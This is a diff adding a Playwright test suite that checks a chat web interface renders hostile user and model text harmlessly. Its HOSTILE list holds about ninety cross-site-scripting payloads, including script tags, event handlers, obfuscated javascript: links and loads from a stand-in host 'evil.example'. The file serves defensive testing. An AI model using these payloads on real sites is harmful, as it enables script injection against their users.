@@ -1,0 +1,254 @@
+"""What is written by others stays text: hostile strings in every place where text is shown.
+
+None executes, opens a dialog, or loads anything: `Site.check` holds that no request leaves the server's origin.
+"""
+
+from typing import Any
+
+import pytest
+from browser import ANSWER, QUESTION, Site, browser, browser_test, need_marked, site
+from fake_ollama import echo
+
+pytest.importorskip("playwright")
+from playwright.async_api import Page, expect
+
+__all__ = ["browser", "site"]  # the fixtures
+pytestmark = browser_test
+
+HIT = "window.__hit=1"
+EVIL = "https://evil.example"
+HOSTILE = [
+    f"<script>{HIT}</script>",
+    f"<SCRIPT>{HIT}</SCRIPT>",
+    f"<script src={EVIL}/x.js></script>",
+    f"</script><script>{HIT}</script>",
+    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
+    f"<script type=module>{HIT}</script>",
+    f"<img src=x onerror={HIT}>",
+    f'<img src="{EVIL}/p.png">',
+    f"<img srcset='{EVIL}/p.png 2x'>",
+    f'"><img src=x onerror={HIT}>',
+    f"'><img src=x onerror='{HIT}'>",
+    f"<img/src=x/onerror={HIT}>",
+    f"<image src=x onerror={HIT}>",
+    f"<svg onload={HIT}>",
+    f"<svg><script>{HIT}</script></svg>",
+    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
+    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>",
+    f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
+    f"<svg><foreignObject><iframe srcdoc='<script>{HIT}</script>'></foreignObject></svg>",
+    f"<math><mtext><script>{HIT}</script></mtext></math>",
+    f"<math href='javascript:{HIT}'>x</math>",
+    f"<iframe src='javascript:{HIT}'></iframe>",
+    f"<iframe src={EVIL}></iframe>",
+    f"<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
+    f"<object data='javascript:{HIT}'></object>",
+    f"<embed src='javascript:{HIT}'>",
+    f"<body onload={HIT}>",
+    f"<details open ontoggle={HIT}>x</details>",
+    f"<input autofocus onfocus={HIT}>",
+    f"<video src=x onerror={HIT}></video>",
+    f"<video poster={EVIL}/p.png></video>",
+    f"<audio src={EVIL}/a.mp3 autoplay onerror={HIT}>",
+    f"<source src=x onerror={HIT}>",
+    f"<marquee onstart={HIT}>x</marquee>",
+    f"<style>@import '{EVIL}/x.css';</style>",
+    f"<style>*{{background:url({EVIL}/p.png)}}</style>",
+    f"<link rel=stylesheet href={EVIL}/x.css>",
+    f"<link rel=prefetch href={EVIL}>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<base href={EVIL}/>",
+    f"<form action={EVIL}><button autofocus>x</button></form>",
+    f"<div style='background:url({EVIL}/p.png)'>x</div>",
+    f"<p onmouseover={HIT}>hover</p>",
+    f"<a href='javascript:{HIT}'>click</a>",
+    f"<template><script>{HIT}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
+    f"<textarea></textarea><script>{HIT}</script>",
+    f"<!--><img src=x onerror={HIT}>-->",
+    f"<![CDATA[<script>{HIT}</script>]]>",
+    f"<?xml version='1.0'?><script>{HIT}</script>",
+    f"[click](javascript:{HIT})",
+    f"[click](JAVASCRIPT:{HIT})",
+    f"[click](java&#115;cript:{HIT})",
+    f"[click](javascript&colon;{HIT})",
+    f"[click](&#x6A;avascript:{HIT})",
+    f"[click](<java\tscript:{HIT}>)",
+    f"[click](%6aavascript:{HIT})",
+    f"[click](data:text/html,<script>{HIT}</script>)",
+    f"[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==)",
+    f"[click](vbscript:{HIT})",
+    f"[click](http://x.org/\" onmouseover=\"{HIT})",
+    f'[click](http://x.org "\" onmouseover={HIT} \"")',
+    f"<javascript:{HIT}>",
+    f"[r][1]\n\n[1]: javascript:{HIT}",
+    f"![x]({EVIL}/p.png)",
+    f"![x](javascript:{HIT})",
+    f"![x](data:image/svg+xml,<svg onload={HIT}>)",
+    f"![\" onerror=\"{HIT}](x)",
+    f"![x][i]\n\n[i]: {EVIL}/p.png",
+    f"[![x]({EVIL}/p.png)](javascript:{HIT})",
+    f"```\"><script>{HIT}</script>\ncode\n```",
+    f"```html\n<script>{HIT}</script>\n```",
+    f"`<img src=x onerror={HIT}>`",
+    f"# <img src=x onerror={HIT}>",
+    f"| <script>{HIT}</script> | <img src=x onerror={HIT}> |\n|-|-|\n| <svg onload={HIT}> | {EVIL}/p.png |",
+    f"> <img src=x onerror={HIT}>\n> - <svg onload={HIT}>",
+    f"1. <script>{HIT}\n2. </script>",
+    f"**<img src=x onerror={HIT}>**",
+    f"\\<script>{HIT}\\</script>",
+    f"&lt;script&gt;{HIT}&lt;/script&gt;",
+    f"&#60;img src=x onerror={HIT}&#62;",
+    f"\u202e<script>{HIT}</script>\u2028<img src=x onerror={HIT}>",
+    f"${{{HIT}}} {{{{constructor.constructor('{HIT}')()}}}}",
+    f"[[[[[(((({HIT}<script>![](<{EVIL}/p.png",
+]  # fmt: skip
+
+SCHEMES = """
+() => {
+  const roots = [document, document.querySelector("chat-interface").shadowRoot];
+  const links = roots.flatMap((root) => [...root.querySelectorAll("a[href]")]);
+  return links.map((link) => [link.protocol, link.target, link.rel, link.className, link.dataset.session]);
+}
+"""
+MADE = """
+() => {
+  const roots = [document.querySelector("chat-interface").shadowRoot, document.getElementById("sessions")];
+  const made = roots.flatMap((root) => [...root.querySelectorAll("*")]);
+  const tags = new Set(made.map(({ localName }) => localName));
+  const handlers = made.flatMap(({ attributes }) => [...attributes]).filter(({ name }) => /^on|^style$|^srcdoc$/.test(name) );
+  return [[...tags], handlers.filter(({ ownerElement, name }) => !(name === "style" && ownerElement.part.contains("input"))).length];
+}
+"""
+FORBIDDEN = {"script", "iframe", "object", "embed", "link", "style", "meta", "base", "video", "audio", "image", "use", "math", "marquee"}
+
+
+async def harmless(page: Page, site: Site) -> None:
+    """Also when everything that can be opened, hovered or focused has been."""
+    await page.evaluate(
+        """() => {
+          const root = document.querySelector("chat-interface").shadowRoot;
+          for (const element of root.querySelectorAll("article, article *")) {
+            for (const type of ["mouseover", "focus", "toggle", "load", "error"]) element.dispatchEvent(new Event(type));
+          }
+        }"""
+    )
+    await page.evaluate("() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))")
+    assert await page.evaluate("window.__hit") is None
+    assert site.dialogs == []
+    tags, handlers = await page.evaluate(MADE)
+    assert FORBIDDEN.isdisjoint(tags)
+    assert handlers == 0
+    for protocol, target, rel, kind, session in await page.evaluate(SCHEMES):
+        if session or kind == "reference":
+            continue
+        assert protocol in ("http:", "https:", "mailto:")
+        assert (target, "noopener" in rel) == ("_blank", True)
+    site.check()
+
+
+def test_there_are_enough_of_them() -> None:
+    assert len(set(HOSTILE)) >= 60
+
+
+async def test_hostile_messages_answers_and_titles(site: Site) -> None:
+    """As they stream (one of all), and as they are read again (one message each)."""
+    need_marked()
+    site.fake.script = echo
+    session = await site.new_session(title=HOSTILE[0])
+    for text in HOSTILE[:40]:
+        await site.client.ask(session, text)
+    page = await site.open(f"/?session={session}")
+    await expect(page.locator(QUESTION)).to_have_text([text.strip() for text in HOSTILE[:40]], use_inner_text=False)
+    await expect(page.locator(ANSWER)).to_have_count(40)
+    await harmless(page, site)
+    await site.ask(page, "\n\n".join(HOSTILE))
+    await expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
+    await harmless(page, site)
+
+
+@pytest.mark.parametrize("part", [0, 1])
+async def test_each_hostile_answer_streams_alone(site: Site, part: int) -> None:
+    """Through the renderer that streams, cut at every character."""
+    need_marked()
+    page = await site.open()
+    await page.evaluate(
+        """async (texts) => {
+          const { StreamingMarkdown } = await import("./static/streaming-markdown.js");
+          const { loadLexer } = await import("./static/markdown.js");
+          const { labels } = await import("./static/labels.js");
+          const newLexer = await loadLexer();
+          const root = document.querySelector("chat-interface").shadowRoot;
+          const streams = texts.map((text) => {
+            const box = root.appendChild(document.createElement("article"));
+            return [new StreamingMarkdown(box, newLexer(), { labels }), [...text]];
+          });
+          for (let at = 0; streams.some(([, text]) => at < text.length); at += 1) {
+            for (const [stream, text] of streams) if (at < text.length) stream.append(text[at]);
+            await new Promise(requestAnimationFrame);
+          }
+          for (const [stream] of streams) stream.finish();
+        }""",
+        HOSTILE[part::2],
+    )
+    await harmless(page, site)
+
+
+async def test_hostile_titles(site: Site) -> None:
+    for text in HOSTILE:
+        await site.new_session(title=text)
+    page = await site.open()
+    await page.get_by_role("button", name="Show more").click()
+    await expect(page.locator("#sessions a")).to_have_count(len(HOSTILE))
+    await page.locator("#sessions a").first.click()
+    await page.locator("#sessions li").first.hover()
+    await page.locator("#sessions li").first.get_by_role("button", name="Delete").click()
+    await expect(page.locator("#confirm-text")).to_contain_text("[[[[[")
+    await harmless(page, site)
+
+
+async def test_hostile_sources_warnings_errors_models_and_thoughts(site: Site) -> None:
+    session = await site.new_session()
+    sources = [{"documentId": n, "title": text, "chunk": n, "snippet": text, "score": 1.0} for n, text in enumerate(HOSTILE)]
+    message: dict[str, Any] = {
+        "id": 1, "sessionId": session, "role": "assistant", "status": "failed", "cursor": None, "documentId": None,
+        "content": " ".join(f"[{number}]" for number in range(1, len(HOSTILE) + 1)), "thinking": "\n".join(HOSTILE),
+        "model": HOSTILE[6], "modelReason": HOSTILE[7], "sources": sources, "finishReason": None, "usage": None,
+        "warnings": [{"code": text, "message": text} for text in HOSTILE], "imageCount": 0, "clientMessageId": None,
+        "error": {"error": "\n".join(HOSTILE), "code": "x", "retryable": True}, "createdAt": "", "updatedAt": "",
+    }  # fmt: skip
+    context = await site.context()
+    await context.route("**/messages", lambda route: route.fulfill(json={"messages": [message], "next": None}))
+    await context.route("**/api/models", lambda route: route.fulfill(json=hostile_models()))
+    page = await site.open(f"/?session={session}", context)
+    chips = page.locator("chat-interface .chip")
+    await expect(chips).to_have_count(len(HOSTILE))
+    await page.evaluate(
+        "() => { const root = document.querySelector('chat-interface').shadowRoot;"
+        "for (const chip of root.querySelectorAll('.chip')) chip.click();"
+        "for (const details of root.querySelectorAll('details')) details.open = true; }"
+    )
+    await expect(page.locator("chat-interface .snippet")).to_have_text(HOSTILE[-1])
+    await harmless(page, site)
+
+
+def hostile_models() -> dict[str, Any]:
+    models = [{"name": text, "capabilities": ["completion"]} for text in HOSTILE]
+    return {"models": models, "selected": {"model": HOSTILE[0], "reason": HOSTILE[1]}}
+
+
+async def test_hostile_file_names(site: Site) -> None:
+    page = await site.open()
+    files = [{"name": text.replace("/", "∕"), "mimeType": "image/png", "buffer": b"x"} for text in HOSTILE]
+    await page.evaluate(
+        """(names) => {
+          const input = document.querySelector("chat-interface").shadowRoot.querySelector("input[type=file]");
+          const held = new DataTransfer();
+          for (const name of names) held.items.add(new File(["x"], name, { type: "image/png" }));
+          input.files = held.files;
+          input.dispatchEvent(new Event("change"));
+        }""",
+        [file["name"] for file in files],
+    )
+    await expect(page.locator("chat-interface .preview img")).to_have_count(len(HOSTILE))
+    await harmless(page, site)
